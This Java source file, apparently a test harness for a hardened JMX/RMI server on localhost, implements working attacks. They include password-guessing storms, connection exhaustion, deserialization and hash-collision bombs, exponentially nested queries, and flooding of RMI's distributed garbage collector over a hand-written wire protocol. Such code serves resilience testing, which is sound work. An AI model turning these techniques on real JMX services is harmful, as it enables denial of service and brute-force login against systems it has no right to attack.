import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.io.Serializable;
import java.lang.invoke.MethodType;
import java.lang.reflect.InvocationHandler;
import java.lang.reflect.Method;
import java.lang.reflect.Proxy;
import java.lang.reflect.UndeclaredThrowableException;
import java.net.Socket;
import java.net.URI;
import java.net.URL;
import java.net.URLClassLoader;
import java.rmi.MarshalledObject;
import java.rmi.Remote;
import java.rmi.dgc.Lease;
import java.rmi.dgc.VMID;
import java.rmi.registry.LocateRegistry;
import java.rmi.server.ObjID;
import java.rmi.server.RemoteObject;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicLong;
import javax.management.MBeanServer;
import javax.management.NotificationFilterSupport;
import javax.management.ObjectName;
import javax.management.Query;
import javax.management.QueryExp;
import javax.management.ValueExp;
import javax.management.remote.rmi.RMIConnection;
import javax.management.remote.rmi.RMIServer;
import javax.security.auth.Subject;

/** Attacks by a client that does not use Java's connector, but the remote objects behind it. */
public final class Attacks {
    private static final int MEBI = 1 << 20;

    private final AtomicLong guesses = new AtomicLong();
    private volatile boolean isCalm;
    private final List<Attacks> occupants = new ArrayList<>();
    private RMIConnection session;

    /** Logs in. */
    public void login(int port, String user, String password) throws Exception {
        RMIServer server = (RMIServer) LocateRegistry.getRegistry("127.0.0.1", port).lookup("jmxrmi");
        session = server.newClient(new String[] {user, password});
    }

    /** Logs in with wrong passwords, from so many threads, until it is calm. */
    public void storm(int port, String user, int threads) throws Exception {
        RMIServer server = (RMIServer) LocateRegistry.getRegistry("127.0.0.1", port).lookup("jmxrmi");
        atOnce(threads, () -> {
            while (!isCalm) {
                Client.failure(() -> server.newClient(new String[] {user, "guess " + guesses.get()}));
                guesses.incrementAndGet();
            }
        });
    }

    public long guessed() {
        return guesses.get();
    }

    public void calm() {
        isCalm = true;
    }

    /** Lets connections wait for notifications that do not come, so many of each of many sessions. */
    public void occupy(int port, String user, String password, int sessions, int each) throws Exception {
        for (int number = 0; number < sessions; number++) {
            Attacks attacks = new Attacks();
            attacks.login(port, user, password);
            occupants.add(attacks);
            for (int connection = 0; connection < each; connection++) {
                Thread thread = new Thread(() -> Client.failure(
                    () -> attacks.session.fetchNotifications(-1, 0, Long.MAX_VALUE)));
                thread.setDaemon(true);
                thread.start();
            }
        }
    }

    /** Ends what {@link #occupy} began. */
    public void leave() throws Exception {
        for (Attacks attacks : occupants) {
            attacks.session.close();
        }
    }

    // Requests of a reader.

    /** Sends a value in the place of a name; the failure. */
    public String tryInsteadOfName(Object value) throws Exception {
        Method method = RMIConnection.class.getMethod(
            "getAttribute", ObjectName.class, String.class, Subject.class);
        return Client.failure(() -> {
            try {
                ((RemoteObject) session).getRef().invoke(
                    (Remote) session, method, new Object[] {value, "Verbose", null}, hash(method));
            } catch (UndeclaredThrowableException error) {
                throw new IOException(error);
            }
        });
    }

    /** The number by which RMI finds a method: the beginning of the digest of its name and descriptor. */
    private static long hash(Method method) throws Exception {
        ByteArrayOutputStream octets = new ByteArrayOutputStream();
        new DataOutputStream(octets).writeUTF(method.getName()
            + MethodType.methodType(method.getReturnType(), method.getParameterTypes()).toMethodDescriptorString());
        byte[] digest = MessageDigest.getInstance("SHA").digest(octets.toByteArray());
        long hash = 0;
        for (int index = 7; index >= 0; index--) {
            hash = hash << 8 | digest[index] & 0xff;
        }
        return hash;
    }

    /**
     * A map whose table takes for ever to read: the hash code of its key is that of lists that each have the one
     * before it twice.
     */
    public static Object endlessHash() throws Exception {
        List<Object> key = new ArrayList<>();
        List<Object> list = new ArrayList<>();
        key.add(list);
        Map<Object, Object> map = new HashMap<>();
        map.put(key, "");
        // Only now, so that this virtual machine need not compute it.
        for (int level = 0; level < 60; level++) {
            List<Object> next = new ArrayList<>();
            list.add(next);
            list.add(next);
            list = next;
        }
        return map;
    }

    /** Itself in an array, and that in a list. */
    public static Object cycle() {
        List<Object> list = new ArrayList<>();
        list.add(new Object[] {list});
        return list;
    }

    public static Object proxy() {
        return Proxy.newProxyInstance(Attacks.class.getClassLoader(), new Class<?>[] {Comparable.class},
            (Serializable & InvocationHandler) (proxy, method, arguments) -> null);
    }

    /** An object of a class that says it is found at that address. */
    public static Object foundAt(String codebase) throws Exception {
        URL here = Attacks.class.getProtectionDomain().getCodeSource().getLocation();
        ClassLoader loader =
            new URLClassLoader(new URL[] {here, URI.create(codebase).toURL()}, ClassLoader.getPlatformClassLoader());
        return loader.loadClass("Client$OwnFilter").getConstructor().newInstance();
    }

    public static Object collidingMap(int count) {
        Map<String, String> map = new HashMap<>();
        for (int number = 0; number < count; number++) {
            StringBuilder key = new StringBuilder();
            for (int bit = 0; bit < 16; bit++) {
                key.append((number >> bit & 1) == 0 ? "Aa" : "BB");
            }
            map.put(key.toString(), "");
        }
        return map;
    }

    /** Reads attributes, with a long name each, at once. */
    public List<String> readLongNamesAtOnce(int length, int count) throws Exception {
        String name = "x".repeat(length);
        ObjectName runtime = new ObjectName("java.lang:type=Runtime");
        return atOnce(count, () -> session.getAttribute(runtime, name, null));
    }

    /** Reads one attribute so often in one request, and that so often at once. */
    public List<String> readAgainAtOnce(int again, int count) throws Exception {
        String[] names = new String[again];
        Arrays.fill(names, "SystemProperties");
        ObjectName runtime = new ObjectName("java.lang:type=Runtime");
        return atOnce(count, () -> session.getAttributes(runtime, names, null));
    }

    /** Reads so many attributes by one request. */
    public String tryAttributes(String name, int count) throws Exception {
        String[] names = new String[count];
        Arrays.setAll(names, index -> "a" + index);
        ObjectName read = new ObjectName(name);
        return Client.failure(() -> session.getAttributes(read, names, null));
    }

    /** Reads the description of an MBean, so often at once. */
    public List<String> describeAtOnce(String name, int count) throws Exception {
        ObjectName described = new ObjectName(name);
        return atOnce(count, () -> session.getMBeanInfo(described, null));
    }

    /** Finds all MBeans, so often at once. */
    public List<String> findAllAtOnce(int count) throws Exception {
        return atOnce(count, () -> session.queryMBeans(null, null, null));
    }

    public String tryPattern(int length) {
        return Client.failure(() -> session.queryNames(new ObjectName("*".repeat(length) + "x:*"), null, null));
    }

    /** A query with so many levels, each of which has the one below it twice. */
    public String tryQuery(int levels) {
        QueryExp query = Query.eq(Query.value(1), Query.value(1));
        for (int level = 0; level < levels; level++) {
            query = Query.and(query, query);
        }
        return tryQuery(query);
    }

    /** A query whose sum has so many levels, each of which has the one below it twice. */
    public String trySum(int levels) {
        return tryQuery(Query.eq(doubled(Query.value(1), levels), Query.value(1)));
    }

    /** A query that puts a text together, of a thousand characters doubled so often. */
    public String tryText(int levels) {
        return tryQuery(Query.eq(doubled(Query.value("x".repeat(1000)), levels), Query.value("a")));
    }

    /** A query that puts a text together from that of an attribute. */
    public String tryTextOf(String attribute, int levels) {
        return tryQuery(Query.eq(doubled(Query.attr(attribute), levels), Query.value("a")));
    }

    private static ValueExp doubled(ValueExp value, int levels) {
        return levels == 0 ? value : doubled(Query.plus(value, value), levels - 1);
    }

    /** A query that is deeper than its stream is: each value of its list refers to the one before. */
    public String tryDepth(int levels) {
        ValueExp[] values = new ValueExp[levels];
        values[0] = Query.value("x");
        for (int level = 1; level < levels; level++) {
            values[level] = Query.plus(values[level - 1], Query.value("x"));
        }
        return tryQuery(Query.in(Query.value("a"), values));
    }

    /** A query of so many levels. */
    public String tryNot(int levels) {
        QueryExp query = Query.eq(Query.value(1), Query.value(1));
        for (int level = 0; level < levels; level++) {
            query = Query.not(query);
        }
        return tryQuery(query);
    }

    /** A query that holds a pattern against an attribute. */
    public String tryMatch(String attribute, String pattern) {
        return tryQuery(Query.match(Query.attr(attribute), Query.value(pattern)));
    }

    public String tryOwnQuery() {
        return tryQuery(new OwnQuery());
    }

    /** A query of a class of a client's own. */
    private static final class OwnQuery implements QueryExp {
        private static final long serialVersionUID = 1L;

        @Override
        public boolean apply(ObjectName name) {
            return true;
        }

        @Override
        public void setMBeanServer(MBeanServer server) {
            // It needs none.
        }
    }

    private String tryQuery(QueryExp query) {
        return Client.failure(() -> session.queryNames(null, new MarshalledObject<>(query), null));
    }

    /** Adds listeners with a filter, one after the other, until one is refused; the failure. */
    public String tryManyListeners(String name, int most) throws Exception {
        NotificationFilterSupport filter = new NotificationFilterSupport();
        for (int number = 0; number < 100; number++) {
            filter.enableType("some.type." + number);
        }
        ObjectName[] names = new ObjectName[100];
        Arrays.fill(names, new ObjectName(name));
        MarshalledObject<?>[] filters = new MarshalledObject<?>[names.length];
        Arrays.fill(filters, new MarshalledObject<>(filter));
        for (int number = 0; number < most; number += names.length) {
            String failure = Client.failure(() -> session.addNotificationListeners(names, filters, null));
            if (!failure.isEmpty()) {
                return failure;
            }
        }
        return "";
    }

    /** Asks for as many notifications as there can be, for as long as there can be, so often at once. */
    public List<String> fetchAtOnce(int count) throws Exception {
        return atOnce(count, () -> session.fetchNotifications(0, Integer.MAX_VALUE, 0));
    }

    // The collector of remote objects.

    /** Tells the collector, as so many clients that never were, that they use its objects. */
    public static int lease(int port, int count, int objects) throws Exception {
        int answered = 0;
        try (Socket socket = greeted(port)) {
            for (int number = 0; number < count; number++) {
                ObjID[] ids = new ObjID[objects];
                Arrays.setAll(ids, index -> new ObjID());
                answered += call(socket, 1, output -> {
                    output.writeObject(ids);
                    output.writeLong(1);
                    output.writeObject(new Lease(new VMID(), Long.MAX_VALUE));
                });
            }
        }
        return answered;
    }

    /** Tells the collector that clients do not use objects any more. */
    public static int release(int port, int count, int objects) throws Exception {
        int answered = 0;
        try (Socket socket = greeted(port)) {
            for (int number = 0; number < count; number++) {
                ObjID[] ids = new ObjID[objects];
                Arrays.setAll(ids, index -> new ObjID(index));
                answered += call(socket, 0, output -> {
                    output.writeObject(ids);
                    output.writeLong(1);
                    output.writeObject(new VMID());
                    output.writeBoolean(true);
                });
            }
        }
        return answered;
    }

    private static Socket greeted(int port) throws IOException {
        Socket socket = new Socket("127.0.0.1", port);
        socket.setSoTimeout(30_000);
        DataOutputStream output = new DataOutputStream(socket.getOutputStream());
        output.writeInt(0x4a524d49);
        output.writeShort(2);
        output.writeByte(0x4b);
        DataInputStream input = new DataInputStream(socket.getInputStream());
        input.readByte();
        input.readUTF();
        input.readInt();
        output.writeUTF("127.0.0.1");
        output.writeInt(0);
        return socket;
    }

    /** What a call sends behind its header. */
    private interface Arguments {
        void write(ObjectOutputStream output) throws IOException;
    }

    /** Calls the collector; 1 if it returns without an exception. */
    private static int call(Socket socket, int operation, Arguments arguments) throws IOException {
        ByteArrayOutputStream octets = new ByteArrayOutputStream();
        octets.write(0x50);
        try (ObjectOutputStream output = new ObjectOutputStream(octets) {
            @Override
            protected void annotateClass(Class<?> type) throws IOException {
                writeObject(null);
            }
        }) {
            new ObjID(ObjID.DGC_ID).write(output);
            output.writeInt(operation);
            output.writeLong(-669196253586618813L);
            arguments.write(output);
        }
        try {
            socket.getOutputStream().write(octets.toByteArray());
            DataInputStream input = new DataInputStream(socket.getInputStream());
            boolean returned = input.read() == 0x51;
            if (returned) {
                // The head of a stream of objects, and of a block of data: an exception is an answer, too.
                input.readFully(new byte[6]);
                returned = input.read() == 1;
            }
            byte[] rest = new byte[65_536];
            while (input.available() > 0) {
                input.read(rest);
            }
            return returned ? 1 : 0;
        } catch (IOException error) {
            return 0;
        }
    }

    // Values of a set or an invocation.

    /** Sets an attribute to a value that nobody made, so often at once; the failures. */
    public List<String> setAtOnce(String name, byte[] value, int count) throws Exception {
        return atOnce(count, () -> session.setAttribute(new ObjectName(name), marshalled(value), null));
    }

    public List<String> setAllAtOnce(String name, byte[] values, int count) throws Exception {
        return atOnce(count, () -> session.setAttributes(new ObjectName(name), marshalled(values), null));
    }

    public List<String> invokeAtOnce(String name, byte[] parameters, int count) throws Exception {
        return atOnce(count,
            () -> session.invoke(new ObjectName(name), "purge", marshalled(parameters), new String[0], null));
    }

    public List<String> createAtOnce(byte[] parameters, int count) throws Exception {
        return atOnce(count, () -> session.createMBean("javax.management.timer.Timer", new ObjectName("x:y=z"),
            marshalled(parameters), new String[] {"java.lang.Object"}, null));
    }

    public List<String> queryAtOnce(byte[] query, int count) throws Exception {
        return atOnce(count, () -> session.queryNames(null, marshalled(query), null));
    }

    public List<String> listenAtOnce(String name, byte[] filter, int count) throws Exception {
        return atOnce(count, () -> session.addNotificationListeners(
            new ObjectName[] {new ObjectName(name)}, new MarshalledObject<?>[] {marshalled(filter)}, null));
    }

    private static List<String> atOnce(int count, Client.Callable attempt) throws Exception {
        ExecutorService threads = Executors.newFixedThreadPool(count);
        try {
            List<Future<String>> attempts = new ArrayList<>();
            for (int number = 0; number < count; number++) {
                attempts.add(threads.submit(() -> Client.failure(attempt)));
            }
            List<String> failures = new ArrayList<>();
            for (Future<String> each : attempts) {
                failures.add(each.get());
            }
            return failures;
        } finally {
            threads.shutdown();
        }
    }

    /** Arrays within arrays, each of which says that it has a mebi of elements, and ends after its first. */
    public static byte[] truncatedArrays(int depth) throws IOException {
        ByteArrayOutputStream octets = new ByteArrayOutputStream();
        DataOutputStream stream = new DataOutputStream(octets);
        stream.writeInt(0xaced0005);
        for (int level = 0; level < depth; level++) {
            stream.writeByte(0x75);
            if (level == 0) {
                writeArrayClass(stream, "[Ljava.lang.Object;", 0x90ce589f1073296cL);
            } else {
                stream.writeByte(0x71);
                stream.writeInt(0x7e0000);
            }
            stream.writeInt(MEBI);
        }
        return octets.toByteArray();
    }

    private static void writeArrayClass(DataOutputStream stream, String name, long version) throws IOException {
        stream.writeByte(0x72);
        stream.writeUTF(name);
        stream.writeLong(version);
        stream.write(new byte[] {2, 0, 0, 0x78, 0x70});
    }

    /** An object that deserialises those octets. */
    private static MarshalledObject<?> marshalled(byte[] value) throws Exception {
        ByteArrayOutputStream octets = new ByteArrayOutputStream();
        DataOutputStream stream = new DataOutputStream(octets);
        stream.writeInt(0xaced0005);
        stream.write(new byte[] {0x73, 0x72});
        stream.writeUTF("java.rmi.MarshalledObject");
        stream.writeLong(8988374069173025854L);
        stream.write(new byte[] {2, 0, 3, 'I'});
        stream.writeUTF("hash");
        stream.writeByte('[');
        stream.writeUTF("locBytes");
        stream.writeByte(0x74);
        stream.writeUTF("[B");
        stream.writeByte('[');
        stream.writeUTF("objBytes");
        stream.writeByte(0x71);
        stream.writeInt(0x7e0001);
        stream.write(new byte[] {0x78, 0x70, 0, 0, 0, 0, 0x70, 0x75});
        writeArrayClass(stream, "[B", 0xacf317f8060854e0L);
        stream.writeInt(value.length);
        stream.write(value);
        try (ObjectInputStream input = new ObjectInputStream(new ByteArrayInputStream(octets.toByteArray()))) {
            return (MarshalledObject<?>) input.readObject();
        }
    }
}
